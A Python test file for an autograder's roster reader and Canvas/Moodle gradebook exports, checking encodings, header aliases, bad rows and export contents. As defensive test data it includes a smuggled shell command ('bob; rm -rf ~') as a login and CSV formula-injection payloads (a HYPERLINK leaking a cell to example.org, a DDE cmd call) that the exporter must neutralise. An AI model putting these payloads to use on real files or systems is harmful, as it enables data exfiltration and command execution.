"""The roster (``grade --roster``) and the LMS gradebook files (``grade --export canvas|moodle``)."""

import csv
import io
import json
from pathlib import Path

import pytest

from autograder.collect import CollectError
from autograder.collect.clone import read_roster as collect_logins
from autograder.grade.result import ExerciseResult, Status, SubmissionResult, TestResult
from autograder.exports.gradebook import CSV_FIELDS, csv_fields, write_csv
from autograder.exports.lms import CANVAS_FIELDS, MOODLE_FIELDS, write_export
from autograder.roster import Roster, RosterError, Student, read_roster
from conftest import ROOT, run_cli

EXAMPLES = ROOT / "examples" / "submissions"
BOM = b"\xef\xbb\xbf"
TRICKY_NAME = '김, "민지"'  # a comma and quotes: must survive CSV quoting


def cli(*args, cwd=None, timeout=300):
    return run_cli(*args, cwd=cwd, columns=200, timeout=timeout)


def write_rows(path: Path, rows: list[list[str]], encoding: str = "utf-8") -> Path:
    with open(path, "w", newline="", encoding=encoding) as f:
        csv.writer(f).writerows(rows)
    return path


def read_csv(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


# --- roster formats ------------------------------------------------------------------


def test_classroom50_roster_csv(tmp_path):
    """Classroom 50's columns (username..role), an extra student_id column, a pending e-mail invitation."""
    path = write_rows(tmp_path / "roster.csv", [
        ["username", "first_name", "last_name", "email", "section", "github_id", "role", "student_id"],
        ["kim-minji", "민지", "김", "minji@example.ac.kr", "1분반", "101", "student", "20231234"],
        ["ada", "Ada", "Lovelace", "ada@example.org", "'=2", "102", "student", "20230001"],
        ["", "", "", "invited@example.org", "", "", "", ""],
    ])
    roster = read_roster(path)
    assert roster.students == (
        Student("kim-minji", "20231234", "김민지", "minji@example.ac.kr", "1분반"),
        Student("ada", "20230001", "Ada Lovelace", "ada@example.org", "=2"),  # Classroom 50's defanged cell read back
    )
    assert roster.skipped == (4,)


def test_plain_roster_with_bom_and_aliases(tmp_path):
    """Excel's "CSV UTF-8": a BOM before the first header; headers in any case, Korean aliases."""
    path = write_rows(tmp_path / "roster.csv", [["Login", "학번", "이름", "E-mail", "분반"],
                                                ["@Kim-Minji", "20231234", TRICKY_NAME, "m@example.org", "A"]],
                      encoding="utf-8-sig")
    assert path.read_bytes().startswith(BOM)
    assert read_roster(path).students == (Student("Kim-Minji", "20231234", TRICKY_NAME, "m@example.org", "A"),)


def test_github_username_and_student_id_headers(tmp_path):
    path = write_rows(tmp_path / "r.csv", [["Name", "Student ID", "GitHub Username"], ["이준호", "20231235", "lee-junho"]])
    assert read_roster(path).students == (Student("lee-junho", "20231235", "이준호"),)


def test_cp949_roster_from_korean_excel(tmp_path):
    path = write_rows(tmp_path / "roster.csv", [["login", "학번", "이름"], ["lee-junho", "20231235", "이준호"]],
                      encoding="cp949")
    with pytest.raises(UnicodeDecodeError):
        path.read_bytes().decode("utf-8")
    assert read_roster(path).find("lee-junho") == Student("lee-junho", "20231235", "이준호")


def test_find_ignores_case_and_at_sign():
    roster = Roster((Student("Kim-Minji", "1"), Student("bob", "2")))
    assert roster.find("kim-minji").student_id == "1"
    assert roster.find("@BOB").student_id == "2"
    assert roster.find("carol") is None
    assert roster.not_on_roster(["KIM-MINJI", "carol"]) == ["carol"]
    assert [s.login for s in roster.absent(["kim-minji"])] == ["bob"]


@pytest.mark.parametrize("rows, message", [
    ([["login", "name"], ["alice", "A"], ["bob; rm -rf ~", "B"]], "3번째 줄: GitHub 아이디가 아닙니다"),
    ([["login"], ["-alice"]], "2번째 줄: GitHub 아이디가 아닙니다"),
    ([["login", "학번"], ["Alice", "1"], ["bob", "2"], ["alice", "3"]], "4번째 줄: 아이디 'alice' 이(가) 2번째 줄에도"),
    ([["name", "email"], ["앨리스", "a@example.org"]], "GitHub 아이디 열이 없습니다"),
    ([["username", "github_id"], ["alice", "1"], ["a" * 40, "2"]], "3번째 줄"),
])
def test_bad_rosters_name_the_file_and_line(tmp_path, rows, message):
    path = write_rows(tmp_path / "bad.csv", rows)
    with pytest.raises(RosterError) as caught:
        read_roster(path)
    assert message in str(caught.value) and str(path) in str(caught.value)


def test_unreadable_rosters(tmp_path):
    with pytest.raises(RosterError, match="읽을 수 없습니다"):
        read_roster(tmp_path / "missing.csv")
    (tmp_path / "binary.csv").write_bytes(b"login\n\xff\xff\xff\n")
    with pytest.raises(RosterError, match="CP949"):
        read_roster(tmp_path / "binary.csv")
    (tmp_path / "empty.csv").write_bytes(b"")
    with pytest.raises(RosterError, match="비어 있습니다"):
        read_roster(tmp_path / "empty.csv")


def test_collect_reads_the_same_rosters(tmp_path):
    path = write_rows(tmp_path / "roster.csv", [["username", "first_name", "last_name", "email", "section", "github_id",
                                                 "role"], ["alice", "", "", "", "", "", ""], ["", "", "", "x@y.z", "",
                                                                                              "", ""], ["@bob"] + [""] * 6])
    assert collect_logins(path) == ["alice", "bob"]
    with pytest.raises(CollectError, match="2번째 줄"):
        collect_logins(write_rows(tmp_path / "bad.csv", [["login"], ["bad login"]]))


# --- LMS files from results ----------------------------------------------------------


def graded(submission: str, score: int, max_score: int = 100) -> SubmissionResult:
    tests = (TestResult("losses", "t1", "t1", "public", score, max_score, Status.PASSED if score == max_score
                        else Status.FAILED),)
    return SubmissionResult.graded(submission, [ExerciseResult("losses", "losses", tests)], 0.1)


@pytest.fixture
def results():
    return [graded("subs/Kim-Minji", 87), SubmissionResult.missing("ghost", 100),
            SubmissionResult.crashed("subs/broken", "the grader failed"), SubmissionResult.invalid("subs/empty", "x", 100),
            graded("subs/stranger", 50)]


@pytest.fixture
def roster():
    return Roster((Student("kim-minji", "20231234", TRICKY_NAME, "minji@example.ac.kr", "1분반"),
                   Student("ghost", "20239999", "유령"), Student("broken", "20230002", "고장"),
                   Student("empty", "20230003", "빈폴더")))


def test_canvas_file(tmp_path, results, roster):
    exported = write_export("canvas", results, tmp_path / "canvas.csv", roster, "신경망 학습 (4강)")
    raw = (tmp_path / "canvas.csv").read_bytes()
    assert raw.startswith(BOM)
    rows = read_csv(tmp_path / "canvas.csv")
    assert rows[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "신경망 학습 (4강)"]
    assert rows[0][:5] == CANVAS_FIELDS
    assert rows[1][0] == "Points Possible" and rows[1][-1] == "100"
    assert rows[2] == [TRICKY_NAME, "", "20231234", "minji@example.ac.kr", "1분반", "87"]
    assert rows[3] == ["유령", "", "20239999", "", "", "0"]  # missing: 0
    assert rows[4] == ["고장", "", "20230002", "", "", ""]  # the grader's problem: no grade, not 0
    assert rows[5][-1] == "0"  # not gradable: 0 of 100
    assert rows[6] == ["stranger", "", "", "stranger", "", "50"]  # not on the roster: its login only
    assert len(rows) == 7
    assert exported.ungraded == ("broken",) and exported.unidentified == ("stranger",)


def test_moodle_file(tmp_path, results, roster):
    write_export("moodle", results, tmp_path / "moodle.csv", roster, "과제 4")
    assert (tmp_path / "moodle.csv").read_bytes().startswith(BOM)
    rows = read_csv(tmp_path / "moodle.csv")
    assert rows[0] == ["ID number", "Email address", "Name", "GitHub username", "과제 4", "상태"]
    assert rows[0][:4] == MOODLE_FIELDS
    by_login = {row[3]: row for row in rows[1:]}
    assert by_login["kim-minji"] == ["20231234", "minji@example.ac.kr", TRICKY_NAME, "kim-minji", "87", "제출"]
    assert by_login["ghost"][4:] == ["0", "미제출"] and by_login["broken"][4:] == ["", "채점기 문제"]
    assert by_login["empty"][4:] == ["0", "채점 불가"] and by_login["stranger"][0] == ""
    assert len(rows) == 1 + len(results)


def test_missing_students_can_get_an_empty_cell_instead_of_zero(tmp_path, results, roster):
    for kind, student_id, grade in (("canvas", 2, 5), ("moodle", 0, 4)):  # the student-number and grade columns
        write_export(kind, results, tmp_path / f"{kind}.csv", roster, "과제", missing_blank=True)
        grades = {row[student_id]: row[grade] for row in read_csv(tmp_path / f"{kind}.csv")}
        assert grades["20239999"] == ""  # ghost, missing: left empty, as asked
        assert grades["20230003"] == "0" and grades["20231234"] == "87"  # not gradable stays 0


def test_a_classroom50_roster_leaves_its_teachers_and_tas_out(tmp_path):
    path = write_rows(tmp_path / "roster.csv", [
        ["username", "first_name", "last_name", "email", "section", "github_id", "role"],
        ["prof", "교수", "이", "", "", "1", "teacher"], ["helper", "조교", "박", "", "", "2", "ta"],
        ["kim-minji", "민지", "김", "", "", "3", "student"], ["newcomer", "", "", "", "", "4", ""]])
    roster = read_roster(path)
    assert roster.logins == ["kim-minji", "newcomer"] and roster.staff == ("prof", "helper")


def test_exports_without_a_roster_use_the_login(tmp_path, results):
    write_export("canvas", results, tmp_path / "canvas.csv")
    rows = read_csv(tmp_path / "canvas.csv")
    assert rows[2] == ["Kim-Minji", "", "", "Kim-Minji", "", "87"]


def test_grades_csv_gains_student_columns_only_with_a_roster(tmp_path, results, roster):
    write_csv(results, tmp_path / "plain.csv")
    assert read_csv(tmp_path / "plain.csv")[0] == CSV_FIELDS
    write_csv(results, tmp_path / "joined.csv", roster)
    rows = list(csv.DictReader(open(tmp_path / "joined.csv", encoding="utf-8", newline="")))
    assert list(rows[0]) == csv_fields(roster) and csv_fields(roster)[:3] == ["submission", "student_id", "name"]
    assert (rows[0]["student_id"], rows[0]["name"], rows[0]["score"]) == ("20231234", TRICKY_NAME, "87")
    assert rows[-1]["student_id"] == "" and rows[-1]["submission"] == "subs/stranger"


# --- the grade command ---------------------------------------------------------------


@pytest.fixture(scope="module")
def graded_run(tmp_path_factory):
    """Two bundled submissions; the roster has kim-minji (other case) and ghost (no submission), not lee-junho."""
    tmp = tmp_path_factory.mktemp("roster-run")
    roster = write_rows(tmp / "roster.csv", [["GitHub_Username", "학번", "이름"], ["KIM-MINJI", "20231234", TRICKY_NAME],
                                             ["ghost", "20239999", "유령"]], encoding="utf-8-sig")
    process = cli("grade", EXAMPLES / "kim-minji", EXAMPLES / "lee-junho", "--roster", roster, "--out", tmp / "out",
                  "--export", "canvas", tmp / "canvas.csv", "--export", "moodle", tmp / "moodle.csv", "-q")
    return tmp, process


def test_grade_with_roster_records_missing_and_strangers(graded_run):
    tmp, process = graded_run
    assert process.returncode == 0, process.stdout + process.stderr
    results = {r["submission"].rsplit("/", 1)[-1]: r for r in json.loads((tmp / "out" / "grades.json").read_text())}
    assert sorted(results) == ["ghost", "kim-minji", "lee-junho"]
    assert results["ghost"]["status"] == "missing" and results["ghost"]["score"] == 0
    assert "명단에 없는 제출물 (학번·이름 없음): lee-junho" in process.stdout
    assert "미제출: ghost (20239999 유령)" in process.stdout
    rows = {r["submission"].rsplit("/", 1)[-1]: r for r in
            csv.DictReader(open(tmp / "out" / "grades.csv", encoding="utf-8", newline=""))}
    assert (rows["kim-minji"]["student_id"], rows["kim-minji"]["name"]) == ("20231234", TRICKY_NAME)
    assert rows["lee-junho"]["student_id"] == "" and rows["ghost"]["status"] == "missing"


def test_grade_exports_canvas_and_moodle(graded_run):
    tmp, process = graded_run
    assert process.returncode == 0, process.stdout + process.stderr
    canvas = read_csv(tmp / "canvas.csv")
    assert (tmp / "canvas.csv").read_bytes().startswith(BOM)
    assert canvas[0] == CANVAS_FIELDS + ["신경망 학습 (4강)"] and canvas[1][0] == "Points Possible"
    by_id = {row[2]: row for row in canvas[2:]}
    assert by_id["20231234"][0] == TRICKY_NAME and by_id["20231234"][-1] == "100"
    assert by_id["20239999"][-1] == "0"
    assert by_id[""][3] == "lee-junho" and 0 < int(by_id[""][-1]) < 100
    moodle = read_csv(tmp / "moodle.csv")
    assert moodle[0] == MOODLE_FIELDS + ["신경망 학습 (4강)", "상태"] and len(moodle) == 4
    assert {row[3].lower(): row[5] for row in moodle[1:]} == {"kim-minji": "제출", "lee-junho": "제출", "ghost": "미제출"}
    assert "학번이 없어 LMS에서 찾지 못할 수 있는 행: lee-junho" in process.stdout


def test_bad_roster_stops_before_grading(tmp_path):
    roster = write_rows(tmp_path / "roster.csv", [["login", "학번"], ["kim-minji", "1"], ["Kim-Minji", "2"]])
    process = cli("grade", EXAMPLES / "kim-minji", "--roster", roster, "--out", tmp_path / "out")
    assert process.returncode == 2, process.stdout + process.stderr
    assert "3번째 줄" in process.stdout and "아무것도 채점하지 않았습니다" in process.stdout
    assert not (tmp_path / "out").exists()


def test_unknown_export_format_is_a_usage_error(tmp_path):
    process = cli("grade", EXAMPLES / "kim-minji", "--export", "blackboard", tmp_path / "x.csv", "--out", tmp_path / "o")
    assert process.returncode == 2 and "canvas 또는 moodle" in process.stderr
    assert not (tmp_path / "o").exists()


def console_output(fn) -> str:
    from rich.console import Console

    buffer = io.StringIO()
    fn(Console(file=buffer, width=300, soft_wrap=True))
    return buffer.getvalue()


def test_export_warnings_without_roster_and_for_internal_errors(tmp_path, results):
    from autograder.commands.grade_run import GradeRun
    from autograder.commands.grade_outputs import write_exports

    run = GradeRun(tmp_path / "out", exports=[("moodle", tmp_path / "m.csv")], assignment_name="과제")
    text = console_output(lambda console: write_exports(run, console, results))
    assert "--roster 없이" in text and "학번" in text
    assert "채점기 문제로 점수가 없는 제출물은 점수 칸을 비워 두었습니다(0점 아님): broken" in text
    assert read_csv(tmp_path / "m.csv")[3] == ["", "", "", "broken", "", "채점기 문제"]
    run = GradeRun(tmp_path / "out", exports=[("canvas", tmp_path / "c.csv")], assignment_name="과제")
    text = console_output(lambda console: write_exports(run, console, results, True))
    assert "쓰지 않았습니다" in text and not (tmp_path / "c.csv").exists()


def test_a_name_that_looks_like_a_formula_stays_text_in_every_csv_written(tmp_path, results):
    """Names and e-mails come from students' own profiles (Classroom 50 writes such a cell as ``'=...`` and the
    roster reads it back): every CSV the grader writes keeps it text, and the honest student's row is as before."""
    formula = '=HYPERLINK("http://example.org/?"&C3,"성적")'
    roster = Roster((Student("kim-minji", "20231234", TRICKY_NAME, "minji@example.ac.kr", "1분반"),
                     Student("stranger", "20230009", formula, "@cmd|' /C calc'!A0", "+1")))
    write_csv(results, tmp_path / "grades.csv", roster)
    rows = {r["submission"]: r for r in csv.DictReader(open(tmp_path / "grades.csv", encoding="utf-8", newline=""))}
    assert rows["subs/stranger"]["name"] == "'" + formula and rows["subs/Kim-Minji"]["name"] == TRICKY_NAME
    for kind in ("canvas", "moodle"):
        write_export(kind, results, tmp_path / f"{kind}.csv", roster, "과제 4")
        cells = [cell for row in read_csv(tmp_path / f"{kind}.csv") for cell in row]
        assert "'" + formula in cells and "'@cmd|' /C calc'!A0" in cells and TRICKY_NAME in cells, kind
        assert not any(cell and cell[0] in "=+-@" for cell in cells), kind
